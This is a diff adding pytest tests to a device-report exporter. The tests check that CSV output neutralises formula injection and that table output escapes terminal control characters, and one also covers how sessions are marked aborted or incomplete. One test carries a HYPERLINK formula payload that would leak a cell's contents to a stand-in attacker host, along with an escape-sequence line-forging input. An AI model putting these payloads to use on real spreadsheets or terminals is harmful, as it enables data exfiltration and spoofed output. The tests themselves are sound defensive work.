@@ -124,3 +124,68 @@ def test_missing_database_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixt
     assert err == [
         f"thermoscreen report: {tmp_path / 'nope.sqlite'}: database not found; pass --db"
     ]
+
+
+def test_csv_neutralizes_device_supplied_formulas(tmp_path: Path) -> None:
+    """A label like =HYPERLINK(...) from a device must reach a spreadsheet as text."""
+    path = tmp_path / "r.sqlite"
+    store = open_store(path)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for seq, label in enumerate([formula, formula, "@SUM(1)", "+1", "healthy"]):
+        store.add_result(make_payload(seq, "s1", label=label), 1.0)
+    summary = _summary("s1", 5, "-2+3") | {"end_reason": "eos"}
+    store.add_session("edge-01", "cam0", "s1", summary, 2.0)
+    store.commit()
+    store.close()
+    out = tmp_path / "r.csv"
+    assert _run(path, "--format", "csv", "--out", str(out)) == 0
+    (row,) = list(csv.DictReader(io.StringIO(out.read_text())))
+    assert row["verdict"] == "'-2+3"
+    assert row["labels"].startswith("'+1=1;")  # the cell's first label is +1
+    assert f"{formula}=2" in row["labels"]
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@")), value
+
+
+def test_table_shows_control_characters_escaped(tmp_path: Path) -> None:
+    path = tmp_path / "r.sqlite"
+    store = open_store(path)
+    store.add_result(make_payload(0, "s1", label="sick\x1b[2J\nfake line"), 1.0)
+    store.commit()
+    store.close()
+    out = tmp_path / "r.txt"
+    assert _run(path, "--out", str(out)) == 0
+    text = out.read_text()
+    assert "\x1b" not in text and "sick\\x1b[2J\\nfake" in text
+    assert len(text.splitlines()) == 3  # header, the session, footer
+
+
+def test_a_session_without_summary_is_aborted_once_the_device_moved_on(tmp_path: Path) -> None:
+    """A killed run never publishes its summary: the report says aborted (the device went
+    offline, or the camera started a later session) or incomplete (it may still be running)."""
+    path = tmp_path / "r.sqlite"
+    store = open_store(path)
+    killed = [make_payload(seq, "killed") for seq in range(3)]
+    later = [make_payload(seq + 10, "later") for seq in range(2)]  # captured after "killed"
+    other = [make_payload(seq, "running", device="edge-02") for seq in range(2)]
+    gone = [make_payload(seq, "gone", device="edge-03") for seq in range(2)]
+    for p in killed + later + other + gone:
+        store.add_result(p, 1.0)
+    store.add_session(
+        "edge-01", "cam0", "ended", _summary("ended", 0, None) | {"end_reason": "eos"}, 1.0
+    )
+    store.set_status("edge-01", "online", 1.0)
+    store.set_status("edge-02", "online", 1.0)
+    store.set_status("edge-03", "offline", 1.0)
+    store.commit()
+    store.close()
+    out = tmp_path / "r.json"
+    assert _run(path, "--format", "json", "--out", str(out)) == 0
+    ends = {s["session"]: s["end_reason"] for s in json.loads(out.read_text())["sessions"]}
+    assert ends == {
+        "killed": "aborted",
+        "later": "incomplete",
+        "running": "incomplete",
+        "gone": "aborted",
+        "ended": "eos",
+    }
